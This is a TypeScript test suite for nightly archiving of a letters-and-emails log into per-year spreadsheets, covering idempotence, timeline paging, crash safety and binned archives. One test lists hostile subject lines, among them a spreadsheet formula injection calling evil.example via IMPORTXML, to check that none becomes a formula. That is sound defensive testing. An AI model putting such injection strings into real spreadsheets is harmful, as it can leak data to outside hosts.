/** Older years of the log go to spreadsheets of their own, whole and as they were. */
import { rowsOf } from "../../local/rows";
import { isFormula } from "../../local/sheets/model";
import { sortByColumn } from "../../local/sheets/person";
import type { TimelineRequest } from "../../src/contract";
import type { TestOffice } from "../anOffice";
import {
	aLetter,
	aMailOffice,
	asha,
	letters,
	log,
	nightly,
	oak,
	received,
	standing,
	state,
	typeUnder,
} from "./aMailbox";

/** Letters of a day in November of a year. */
const of = (year: number, count: number, letter = {}) =>
	Array.from({ length: count }, (_, n) =>
		aLetter({ at: `${year}-11-0${(n % 9) + 1}T09:00:00Z`, ...letter }),
	);

/** The log may hold so many rows. */
const limit = (office: TestOffice, rows: number) =>
	typeUnder(office, "Settings", "mail.archiveRows", "Value", String(rows));

async function anOfficeWith(rows: number, ...texts: string[]) {
	const office = aMailOffice();
	await received(office, ...texts);
	limit(office, rows);
	return office;
}

function books({ google }: TestOffice) {
	const { spreadsheets, boundId } = google.workspace.state;
	return Object.values(spreadsheets).filter(({ id }) => id !== boundId);
}

/** The rows of each archive, by its title. */
const archives = (office: TestOffice) =>
	Object.fromEntries(
		books(office).map(({ title, tabs }) => [
			title,
			tabs.flatMap((tab) => rowsOf(tab)),
		]),
	);

const kept = (office: TestOffice) =>
	state<{ year: number; rows: number; bookId: string }[]>(office, "archives");

const timeline = (office: TestOffice, request: Partial<TimelineRequest>) =>
	office.ask("showTimeline", {
		place: oak,
		show: "Everything",
		before: "",
		year: null,
		...request,
	});

function putInBin({ google }: TestOffice, id: string, trashed = true) {
	const { state: all } = google.workspace;
	all.drive = all.drive.map((file) =>
		file.id === id ? { ...file, trashed } : file,
	);
}

test("while the log is not longer than it may be, nothing goes", async () => {
	const office = await anOfficeWith(6, ...of(2023, 3), ...of(2026, 3));
	nightly(office);
	expect(books(office)).toEqual([]);
	expect(letters(office)).toHaveLength(6);
});

test("over that, every year before last goes whole, in its order and unchanged", async () => {
	const office = await anOfficeWith(
		6,
		...of(2023, 2),
		...of(2025, 2),
		...of(2024, 3),
		...of(2026, 2),
		...of(2023, 1),
	);
	const before = letters(office);
	const year = (which: number) =>
		before.filter((row) => String(row.Date).startsWith(String(which)));
	nightly(office);
	expect(archives(office)).toEqual({
		"Letters and emails 2023": year(2023),
		"Letters and emails 2024": year(2024),
	});
	expect(letters(office)).toEqual([...year(2025), ...year(2026)]);
	expect(kept(office).map((one) => [one.year, one.rows])).toEqual([
		[2023, 3],
		[2024, 3],
	]);
	expect(state(office, "mail")).toMatchObject({ live: 4, logged: 10 });
	expect(standing(office).looked).toBe(10);
});

test("last year goes too if that is not enough; this year never does", async () => {
	const office = await anOfficeWith(
		3,
		...of(2024, 2),
		...of(2025, 2),
		...of(2026, 5),
	);
	nightly(office);
	expect(Object.keys(archives(office))).toEqual([
		"Letters and emails 2024",
		"Letters and emails 2025",
	]);
	expect(letters(office)).toHaveLength(5);
	nightly(office);
	nightly(office);
	expect(letters(office)).toHaveLength(5);
	expect(books(office)).toHaveLength(2);
});

test("run again, nothing is changed; what comes later is added below", async () => {
	const office = await anOfficeWith(4, ...of(2024, 3), ...of(2026, 2));
	nightly(office);
	const first = archives(office);
	nightly(office);
	expect(archives(office)).toEqual(first);
	await received(office, ...of(2024, 2), ...of(2026, 2));
	const late = letters(office).filter((row) => String(row.Date) < "2025");
	nightly(office);
	expect(archives(office)).toEqual({
		"Letters and emails 2024": [
			...(first["Letters and emails 2024"] ?? []),
			...late,
		],
	});
	expect(kept(office)).toMatchObject([{ year: 2024, rows: 5 }]);
});

test("hostile texts go unchanged, and none becomes a formula", async () => {
	const texts = [
		'=IMPORTXML("https://evil.example","//a")',
		"+44 20 7946 0000",
		"@SUM(1+9)",
		"-2*3",
		"'quoted",
		"0123",
		"1/1/2026",
		"TRUE",
		"5%",
		"{{partnerName}} $&",
		"Zoë 👩‍👩‍👧 漢字",
	];
	const office = await anOfficeWith(
		1,
		...texts.map((subject) => aLetter({ subject, at: "2024-05-01T09:00:00Z" })),
	);
	const before = letters(office);
	nightly(office);
	expect(archives(office)).toEqual({ "Letters and emails 2024": before });
	expect(before.map((row) => row.Subject)).toEqual(texts);
	const cells = books(office).flatMap(({ tabs }) =>
		tabs.flatMap(({ rows }) => rows.flat()),
	);
	expect(cells.some((cell) => isFormula(cell?.value))).toBe(false);
});

test("the timeline finds them by their year, filtered and page by page", async () => {
	const moments = Array.from(
		{ length: 45 },
		(_, n) => 1_700_000_000_000 + n * 60_000,
	);
	const office = await anOfficeWith(
		10,
		...moments.map((at) => aLetter({ at: new Date(at).toISOString() })),
		...of(2026, 2),
	);
	nightly(office);
	const now = timeline(office, {});
	expect({ years: now.years, lines: now.lines.length }).toEqual({
		years: [2023],
		lines: 2,
	});
	const first = timeline(office, { year: 2023 });
	expect(first).toMatchObject({ more: true });
	const before = first.lines.at(-1)?.at ?? "";
	const second = timeline(office, { year: 2023, before });
	const lines = [...first.lines, ...second.lines];
	expect([first.lines.length, second.lines.length]).toEqual([40, 5]);
	expect(new Set(lines.map(({ ref }) => ref)).size).toBe(45);
	expect(lines.every(({ row, open }) => row === 0 && open !== "")).toBe(true);
	expect(timeline(office, { year: 2023, show: "Emails out" }).lines).toEqual(
		[],
	);
	expect(
		timeline(office, { year: 2023, place: { ref: "P-0002", row: 3 } }).lines,
	).toEqual([]);
});

test("a letter that went there is not changed any more, and that is said", async () => {
	const office = await anOfficeWith(1, ...of(2024, 2));
	nightly(office);
	const values = { partners: ["P-0001"], subject: "x", class: "Internal" };
	expect(() =>
		office.ask("changeLetter", {
			as: asha,
			place: { ref: "E-0001", row: 2 },
			opened: values,
			values: { ...values, subject: "" },
		}),
	).toThrow("Perhaps it went to the archive. Nothing was changed.");
});

test("last contact stays when all of a partner's letters went to an archive", async () => {
	const office = await anOfficeWith(1, ...of(2024, 2));
	nightly(office);
	const { undo } = office.ask("noteMeeting", {
		as: asha,
		place: oak,
		values: { on: "2024-01-01", kind: "Call", who: "Sam" },
	});
	expect(office.row("Partners", oak.ref)["Last contact"]).toBe("2024-11-02");
	expect(undo).not.toBeNull();
});

test("an archive in the bin: nothing more goes there, it is named, and goes on once it is back", async () => {
	const office = await anOfficeWith(1, ...of(2024, 2));
	nightly(office);
	const bookId = kept(office)[0]?.bookId ?? "";
	putInBin(office, bookId);
	await received(office, ...of(2024, 3));
	const { findings } = nightly(office);
	expect(findings).toEqual([
		`An archive of Letters and emails is gone from Drive: https://docs.google.com/spreadsheets/d/${bookId}. Take it out of the bin; until then no more rows go there, and nothing is lost.`,
	]);
	expect(letters(office)).toHaveLength(3);
	expect(office.ask("openHome", {}).troubles).toEqual(findings);
	expect(log(office).logged).toBe(0);
	putInBin(office, bookId, false);
	expect(nightly(office).findings).toEqual([]);
	expect(letters(office)).toEqual([]);
	expect(archives(office)["Letters and emails 2024"]).toHaveLength(5);
});

test("somebody sorts the log in the night: every row goes to its own year, once", async () => {
	const office = await anOfficeWith(
		2,
		...of(2023, 3),
		...of(2024, 3),
		...of(2026, 2),
	);
	const before = letters(office);
	let isSorted = false;
	const { workspace } = office.google;
	office.google.interfere = (call, effect) => {
		const isWrite = call.method === "batchUpdate" && !isSorted;
		isSorted ||= isWrite;
		if (isWrite) sortByColumn(workspace, "Letters and emails", "Ref", "Z to A");
		return effect();
	};
	nightly(office);
	office.google.interfere = undefined;
	nightly(office);
	const all = [...letters(office), ...Object.values(archives(office)).flat()];
	const byRef = (a: (typeof all)[number], b: typeof a) =>
		String(a.Ref) < String(b.Ref) ? -1 : 1;
	expect(all.sort(byRef)).toEqual([...before].sort(byRef));
	expect(letters(office)).toHaveLength(2);
});

test("a night that is killed at any of its calls loses and doubles nothing", async () => {
	const office = await anOfficeWith(
		2,
		...of(2023, 2),
		...of(2024, 2),
		...of(2026, 2),
	);
	const before = letters(office).map((row) => row["Gmail id"]);
	const { calls } = office.google.copy().run("nightly");
	expect(calls.length).toBeGreaterThan(12);
	for (const { n } of calls.filter(({ small }) => !small)) {
		const google = office.google.copy();
		google.interfere = (call, effect, kill) => {
			if (call.n === n) effect();
			return call.n >= n ? kill() : effect();
		};
		google.run("nightly");
		google.interfere = undefined;
		google.workspace.state.now += 20 * 60_000;
		google.run("nightly");
		const tried = Object.assign(aMailOffice(), { google });
		const all = [...letters(tried), ...Object.values(archives(tried)).flat()];
		expect(all.map((row) => row["Gmail id"]).sort()).toEqual(
			[...before].sort(),
		);
		expect(books(tried)).toHaveLength(2);
	}
});

test("a limit of nought still leaves this year where it is", async () => {
	const office = await anOfficeWith(0, ...of(2025, 2), ...of(2026, 2));
	nightly(office);
	expect(archives(office)["Letters and emails 2025"]).toHaveLength(2);
	expect(letters(office)).toHaveLength(2);
});
